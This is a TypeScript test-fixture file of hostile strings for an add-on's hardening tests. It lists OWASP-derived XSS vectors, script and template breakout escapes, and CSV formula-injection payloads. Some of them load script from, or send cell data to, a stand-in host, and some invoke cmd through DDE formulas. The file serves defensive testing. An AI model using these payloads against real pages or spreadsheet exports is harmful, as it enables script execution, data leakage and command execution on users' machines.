// Hostile text for the hardening tests: XSS vectors after OWASP's XSS Filter Evasion and XSS Prevention cheat
// sheets (written out here, no network; hosts are .invalid), the page-data and template escapes specific to
// this add-on, and OWASP's CSV (formula) injection examples.

/** The global a payload sets if it ever runs (the tests also wrap alert, confirm and prompt to set it). */
export const CANARY = '__xssCanary';

/** Each one tries to run script, load something or add an element when put in a page as HTML. */
export const XSS_PAYLOADS: readonly string[] = [
  // Filter evasion cheat sheet: the basic vectors and their spellings.
  '<script>alert(1)</script>',
  `<SCRIPT SRC=https://xss.invalid/xss.js></SCRIPT>`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=javascript:alert('XSS')>`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<a onmouseover="alert(document.cookie)">xxs link</a>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>',
  `<IMG SRC=# onmouseover="alert('xxs')">`,
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  `<IMG SRC="jav\tascript:alert('XSS');">`,
  `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`,
  '<SCRIPT/XSS SRC="https://xss.invalid/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<SCRIPT SRC=//xss.invalid/.j>',
  '<iframe src=https://xss.invalid/scriptlet.html <',
  `\\";alert('XSS');//`,
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
  `<BODY BACKGROUND="javascript:alert('XSS')">`,
  `<svg/onload=alert('XSS')>`,
  `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
  '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
  `<TABLE BACKGROUND="javascript:alert('XSS')">`,
  `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
  `<STYLE>@import'https://xss.invalid/xss.css';</STYLE>`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
  '<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.invalid/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxzY3JpcHQ+YWxlcnQoMSk8L3NjcmlwdD48L3N2Zz4=" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  '<a href="javascript:alert(1)">Read the report</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>',
  // Prevention cheat sheet: breaking out of each context the text could land in.
  '"><img src=x onerror=alert(1)>',
  "' onfocus='alert(1)' autofocus='",
  '<details open ontoggle=alert(1)>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<math><mtext></p><img src=x onerror=alert(1)></mtext></math>',
  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
  // This add-on's own contexts: the JSON in <script id="initial-data">, HtmlService scriptlets, templates.
  '</script><script>alert(1)</script>',
  '</SCRIPT ><img src=x onerror=alert(1)>',
  '\u2028</script>\u2029<script>alert(1)</script>',
  '<!--<script>',
  '<?= alert(1) ?><? alert(1) ?>',
  "{{constructor.constructor('alert(1)')()}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text of a template-literal injection, on purpose
  '${alert(1)}',
  '<template><script>alert(1)</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>">',
];

/** OWASP's CSV injection examples: a spreadsheet opening the export would run these as formulas. */
export const FORMULA_PAYLOADS: readonly string[] = [
  '=1+2',
  `=HYPERLINK("https://xss.invalid/?leak="&A1, "Click for the report")`,
  "=cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '=IMPORTXML(CONCAT("https://xss.invalid/?", A1), "//a")',
  '\t=1+2',
  '\r=1+2',
];

/** Every payload, hostile to HTML or to spreadsheets. */
export const HOSTILE_TEXT: readonly string[] = [...XSS_PAYLOADS, ...FORMULA_PAYLOADS];
